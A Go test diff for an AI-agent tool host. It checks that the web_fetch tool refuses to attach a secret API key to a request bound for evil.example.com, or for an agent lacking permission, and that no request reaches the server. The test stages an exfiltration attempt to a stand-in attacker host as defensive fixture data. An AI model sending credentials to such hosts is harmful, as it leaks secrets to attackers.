@@ -7,6 +7,7 @@ import (
 	"net/http"
 	"net/url"
 	"strings"
+	"sync"
 	"sync/atomic"
 	"testing"
 	"time"
@@ -129,5 +130,85 @@ secret_headers = { "X-Api-Key" = "KEY_ONE" }
 	}
 	if h.HeldMaterial("s3") {
 		t.Error("material kept after the session ended")
+	}
+}
+
+// TestWebFetchSecretHeadersChecked (found by a security review): a secret
+// header of web_fetch's material passes the same checks as a credential:
+// its [secrets.NAME] destinations and the agent's secret:use card, before
+// anything is sent.
+func TestWebFetchSecretHeadersChecked(t *testing.T) {
+	var mu sync.Mutex
+	seen := map[string]string{}
+	srv, ca := testkit.TLSServer(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		mu.Lock()
+		seen[r.Host] = r.Header.Get("X-Api-Key")
+		mu.Unlock()
+	}), "api.example.com", "evil.example.com")
+	u, _ := url.Parse(srv.URL)
+	port := u.Port()
+	h := newHostWith(t, `version = 1
+[tools.fetcher]
+path = %q
+http_allow = ["api.example.com"]
+secrets = ["KEY_ONE"]
+
+[secrets.KEY_ONE]
+hosts = ["api.example.com"]
+
+[agents.a]
+grants = ["tool:invoke web_fetch --...", "network:connect api.example.com", "network:connect evil.example.com"]
+[agents.a.boundary]
+network = true
+[agents.a.tools.web_fetch]
+http_allow = ["api.example.com", "evil.example.com"]
+http_ports = [`+port+`]
+http_allow_cidrs = ["127.0.0.0/8"]
+http_ca_files = ["`+ca+`"]
+secret_headers = { "X-Api-Key" = "KEY_ONE" }
+
+[agents.b]
+grants = ["tool:invoke web_fetch --...", "network:connect api.example.com", "network:connect evil.example.com", "secret:use KEY_ONE"]
+[agents.b.boundary]
+network = true
+[agents.b.tools.web_fetch]
+http_allow = ["api.example.com", "evil.example.com"]
+http_ports = [`+port+`]
+http_allow_cidrs = ["127.0.0.0/8"]
+http_ca_files = ["`+ca+`"]
+secret_headers = { "X-Api-Key" = "KEY_ONE" }
+`, maiden.Options{
+		Resolver: testkit.Loopback("api.example.com", "evil.example.com"),
+		LookupSecret: func(name string) (string, bool) {
+			return map[string]string{"KEY_ONE": "key-s3cr3t-value"}[name], true
+		},
+	}, "js/fetcher")
+	get := func(agent, host string) maiden.Result {
+		res, err := h.Call(context.Background(), maiden.Call{Agent: agent, Tool: "web_fetch", Input: `{"url":"https://` + host + `:` + port + `/x"}`})
+		if err != nil {
+			t.Fatal(err)
+		}
+		return res
+	}
+	// Off the secret's destinations: refused, nothing sent.
+	if res := get("b", "evil.example.com"); res.OK || !strings.Contains(res.Error.Message, "KEY_ONE") {
+		t.Errorf("to evil.example.com: %+v", res.Error)
+	}
+	// On its destination, but agent a holds no secret:use KEY_ONE card.
+	if res := get("a", "api.example.com"); res.OK || !strings.Contains(res.Error.Message, "secret:use KEY_ONE") {
+		t.Errorf("without the card: %+v", res.Error)
+	}
+	mu.Lock()
+	if len(seen) != 0 {
+		t.Fatalf("the server received requests: %v", seen)
+	}
+	mu.Unlock()
+	if res := get("b", "api.example.com"); !res.OK {
+		t.Fatalf("with the card, to its destination: %+v", res.Error)
+	}
+	mu.Lock()
+	defer mu.Unlock()
+	if seen["api.example.com:"+port] != "key-s3cr3t-value" || seen["evil.example.com:"+port] != "" {
+		t.Errorf("the server saw %v", seen)
 	}
 }
